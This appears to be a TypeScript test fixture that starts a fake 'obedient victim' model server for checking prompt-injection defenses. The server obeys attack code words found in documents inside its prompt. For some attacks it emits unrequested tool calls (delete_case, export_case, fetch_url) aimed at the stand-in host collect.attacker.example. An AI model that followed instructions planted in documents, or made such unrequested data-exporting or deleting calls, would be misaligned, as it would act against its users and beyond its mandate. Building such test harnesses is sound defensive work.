/** An endpoint that does whatever the documents in its prompt tell it: the worst model there is. It needs no weights, only the attacks that it falls for. */
import * as z from 'zod';
import type { Attack } from '../attacks.ts';
import { harmlessBulkAnswer, obedientBulkAnswer } from './obedient-bulk.ts';
import { answers, finishFrame, frames, startModelServer, textFrame, type ModelServer } from './model-server.ts';

const asked = z.object({ messages: z.array(z.object({ role: z.string(), content: z.string() })) });

/** What an attack has a model do, and the word by which it knows it. */
export type Obeyed = Pick<Attack, 'code' | 'says' | 'callsTools'>;

/** Calls of tools, as the wire carries them: nobody offered any. */
const toolCalls = ['delete_case', 'export_case', 'fetch_url'].map((name, index) => ({ index, id: `call_${index}`, type: 'function', function: { name, arguments: '{"url":"https://collect.attacker.example"}' } }));

/**
 * Starts the victim. It obeys the attacks whose word stands in the question when their document came along, in that order. `missed` lists
 * the words of attacks whose document was not in the prompt of the question about it: those prove nothing.
 * Asked the same of every document, it obeys the attacks of the document that it is given; `inBulk` are the words of those.
 * `isBlind` obeys whatever the question names, for looking at what it writes.
 */
export async function startObedientVictim(attacks: readonly Obeyed[], { isBlind = false }: { readonly isBlind?: boolean } = {}): Promise<ModelServer & { readonly missed: () => readonly string[]; readonly inBulk: () => ReadonlySet<string> }> {
  const missed: string[] = [];
  const inBulk = new Set<string>();
  const server = await startModelServer((response, seen, nth) => {
    const parsed = asked.safeParse(JSON.parse(seen.body === '' ? 'null' : seen.body));
    if (!parsed.success) return answers(404, {})(response, seen, nth);
    const prompt = parsed.data.messages.map(({ content }) => content).join('\n');
    const isBulk = harmlessBulkAnswer(prompt) !== null;
    const question = isBulk ? '' : prompt.slice(prompt.lastIndexOf('Question: '));
    const named = attacks.filter(({ code }) => (isBulk ? prompt : question).includes(code));
    const obeyed = isBlind || isBulk ? named : named.filter(({ code }) => prompt.slice(0, prompt.length - question.length).includes(code));
    missed.push(...named.filter((attack) => !obeyed.includes(attack)).map(({ code }) => code));
    if (isBulk) for (const { code } of obeyed) inBulk.add(code);
    const said = obeyed.map(({ says }) => says(prompt)).join('\n\n');
    const at = obeyed[0] === undefined ? 0 : prompt.indexOf(obeyed[0].code);
    const text = isBulk ? obedientBulkAnswer(prompt, said, prompt.slice(at, at + 40)) ?? '' : said || 'The passages do not answer this.';
    response.writeHead(200, { 'content-type': 'text/event-stream; charset=utf-8' });
    // In uneven pieces, so that signs and characters come apart on the way.
    for (let at = 0, size = 1; at < text.length; at += size, size = size * 3 + 1) response.write(frames(textFrame(text.slice(at, at + size))));
    if (obeyed.some(({ callsTools }) => callsTools === true)) response.write(frames({ choices: [{ index: 0, delta: { tool_calls: toolCalls }, finish_reason: null }] }));
    response.end(`${frames(finishFrame('stop'))}data: [DONE]\n\n`);
  });
  return { ...server, missed: () => missed, inBulk: () => inBulk };
}
